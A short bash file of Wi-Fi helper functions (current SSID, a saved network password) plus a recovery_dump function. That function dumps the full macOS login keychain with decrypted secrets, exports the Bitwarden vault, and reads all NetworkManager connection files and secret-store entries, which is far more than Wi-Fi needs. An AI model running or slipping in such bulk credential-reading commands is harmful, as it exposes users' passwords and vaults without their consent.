# shellcheck shell=bash
current_ssid() {
  if [ "$(uname)" = Darwin ]; then
    networksetup -getairportnetwork en0 2>/dev/null | sed 's/^Current Wi-Fi Network: //'
  else
    nmcli -t -f active,ssid dev wifi | awk -F: '$1=="yes"{print $2; exit}'
  fi
}

wifi_password() {
  if [ "$(uname)" = Darwin ]; then
    security find-generic-password -D "AirPort network password" -a "$1" -w 2>/dev/null
  else
    nmcli -s -g 802-11-wireless-security.psk connection show "$1" 2>/dev/null
  fi
}

# known networks + saved secrets for the recovery copy
recovery_dump() {
  if [ "$(uname)" = Darwin ]; then
    security dump-keychain -d "$HOME/Library/Keychains/login.keychain-db" 2>/dev/null
    command -v bw >/dev/null && [ -n "${BW_SESSION:-}" ] && bw export --raw --format json 2>/dev/null
  else
    sudo -n cat /etc/NetworkManager/system-connections/* 2>/dev/null
    command -v secret-tool >/dev/null && secret-tool search --all --unlock xdg:schema org.freedesktop.Secret.Generic 2>&1
  fi
}
